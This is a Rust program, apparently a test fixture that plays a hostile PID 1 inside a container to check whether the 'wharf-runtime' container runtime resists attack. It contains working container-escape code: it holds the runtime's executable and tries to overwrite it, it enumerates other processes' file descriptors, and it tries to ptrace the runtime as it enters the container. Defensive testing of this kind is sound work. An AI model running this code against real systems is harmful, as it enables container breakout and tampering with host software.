//! What a hostile program does that is PID 1 of a container: it reaches for everybody who comes in.
//!
//! It holds on to the executable of each process, by O_PATH, and tries for ever to write to it; it lists what others have
//! open, and tries to trace them as long as they are the runtime. What it gets it writes to `/tmp/got`, a line each.
#![allow(clippy::unwrap_used, reason = "an attacker that can't attack shows by having seen nothing")]

use std::collections::{BTreeMap, BTreeSet};
use std::fs::File;
use std::io::Write as _;
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::path::Path;

use nix::sys::ptrace;
use nix::unistd::Pid;
use rustix::fs::{CWD, Mode, OFlags, open, openat};

/// How many executables are held at most.
const HELD: usize = 64;

/// What marks the runtime's program, under whatever path it is.
fn is_runtime(exe: &str) -> bool {
    exe.ends_with("wharf-runtime")
}

fn main() {
    let mut got = File::create("/tmp/got").unwrap();
    let (mut said, mut held) = (BTreeSet::new(), BTreeMap::<u32, OwnedFd>::new());
    let mut say = |text: String| {
        if said.insert(text.clone()) {
            writeln!(got, "{text}").unwrap();
        }
    };
    while !Path::new("/tmp/stop").exists() {
        for entry in std::fs::read_dir("/proc").unwrap().flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<u32>().ok()) else {
                continue;
            };
            if pid == 1 {
                continue;
            }
            say("met somebody".to_owned());
            let folder = entry.path();
            let exe = || std::fs::read_link(folder.join("exe")).map(|path| path.display().to_string());
            let flags = OFlags::PATH | OFlags::CLOEXEC;
            if let (Ok(path), Ok(file)) = (exe(), open(folder.join("exe"), flags, Mode::empty()))
                && is_runtime(&path)
            {
                say("held the runtime's program".to_owned());
                held.insert(pid, file);
            }
            for fd in std::fs::read_dir(folder.join("fd")).into_iter().flatten().flatten() {
                let number = fd.file_name().to_str().and_then(|name| name.parse::<u32>().ok());
                let target = std::fs::read_link(fd.path()).map(|path| path.display().to_string());
                if let (Some(3..), Ok(target)) = (number, target)
                    // A program's own, by the C library, on the way to its main function.
                    && !(target.starts_with("/proc/") && target.ends_with("/maps"))
                {
                    say(format!("descriptor {target}"));
                }
            }
            // Only the runtime on its way in: its program executed as the container's own is fair game.
            let enters = || {
                std::fs::read(folder.join("cmdline"))
                    .is_ok_and(|line| line.windows(6).any(|word| word == b"\0exec\0"))
            };
            if enters() {
                let pid = Pid::from_raw(pid as i32);
                if ptrace::seize(pid, ptrace::Options::empty()).is_ok() {
                    ptrace::interrupt(pid).ok();
                    nix::sys::wait::waitpid(pid, Some(nix::sys::wait::WaitPidFlag::__WALL)).ok();
                    if enters() {
                        say("traced the runtime".to_owned());
                    }
                    ptrace::detach(pid, None).ok(); // or it has ended
                }
            }
        }
        for file in held.values() {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            for flags in [OFlags::WRONLY, OFlags::RDWR, OFlags::WRONLY | OFlags::TRUNC] {
                if let Ok(file) = openat(CWD, &path, flags | OFlags::CLOEXEC, Mode::empty()) {
                    say("opened the runtime's program for writing".to_owned());
                    if rustix::io::pwrite(&file, b"gotcha", 0).is_ok() {
                        say("wrote to the runtime's program".to_owned());
                    }
                }
            }
        }
        while held.len() > HELD {
            held.pop_first();
        }
    }
}
